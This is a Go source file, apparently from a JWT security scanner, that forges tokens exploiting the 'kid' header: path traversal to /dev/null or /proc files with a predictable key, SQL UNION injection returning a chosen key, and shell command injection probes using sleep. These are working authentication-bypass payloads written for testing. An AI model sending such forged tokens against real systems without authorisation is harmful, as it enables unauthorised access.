package attack

import "strings"

func kidAttacks() []Attack {
	return []Attack{{
		Name:  "kid-injection",
		Title: "A kid that reaches a file or a query",
		Check: "jwt.kid-injection",
		Why:   "kid chooses the key by a path or a query that the token writes (CWE-22, CWE-89, RFC 8725 §3.10)",
		forge: kidInjections,
	}}
}

func kidInjections(g *genuine) []Forged {
	up := func(n int, path string) string { return strings.Repeat("../", n) + path }
	const entropy = "proc/sys/kernel/randomize_va_space" // holds "2\n" nearly everywhere
	var all []Forged
	for _, v := range []struct {
		name, title, kid, key string
		intrusive             bool
	}{
		{"dev-null", "kid /dev/null, empty key", "/dev/null", "", false},
		{"dev-null-up-6", "kid of six steps up to /dev/null, empty key", up(6, "dev/null"), "", false},
		{"dev-null-up-10", "kid of ten steps up to /dev/null, empty key", up(10, "dev/null"), "", false},
		{"dev-null-url", "kid file:///dev/null, empty key", "file:///dev/null", "", false},
		{"dev-null-nul", "kid /dev/null cut by a NUL, empty key", up(10, "dev/null\x00.pem"), "", false},
		{"dev-null-windows", "kid with backslashes to NUL, empty key", strings.Repeat(`..\`, 8) + "NUL", "", false},
		{"proc", "kid of a file in /proc, keyed with its content", "/" + entropy, "2\n", false},
		{"proc-up-10", "kid of ten steps up to a file in /proc, keyed with its content", up(10, entropy), "2\n", false},
		{"proc-trimmed", "kid of a file in /proc, keyed with its trimmed content", up(10, entropy), "2", false},
		{"sql-union", "kid with a UNION query, keyed with its result", "x' UNION SELECT 'wt'-- -", "wt", false},
		{"sql-union-semicolon", "kid with a UNION query and semicolon", "x' UNION SELECT 'wt';-- -", "wt", false},
		{"sql-union-double", "kid with a UNION query in double quotes", `x" UNION SELECT "wt"-- -`, "wt", false},
		{"sql-union-2", "kid with a UNION query of two columns", "x' UNION SELECT 'wt','wt'-- -", "wt", false},
		{"sql-union-3", "kid with a UNION query of three columns", "x' UNION SELECT 'wt','wt','wt'-- -", "wt", false},
		{"shell", "kid with a command", "x|sleep 5", "", true},
		{"shell-substitution", "kid with a command substitution", "$(sleep 5)", "", true},
	} {
		key := []byte(v.key)
		all = append(all, Forged{
			Name: v.name, Title: v.title, Intrusive: v.intrusive,
			Token:   mac("HS256", key, with(g.header, object{"kid": v.kid}), g.altered()),
			Control: mac("HS256", key, with(g.header, object{"kid": nil}), g.altered()),
		})
	}
	return all
}
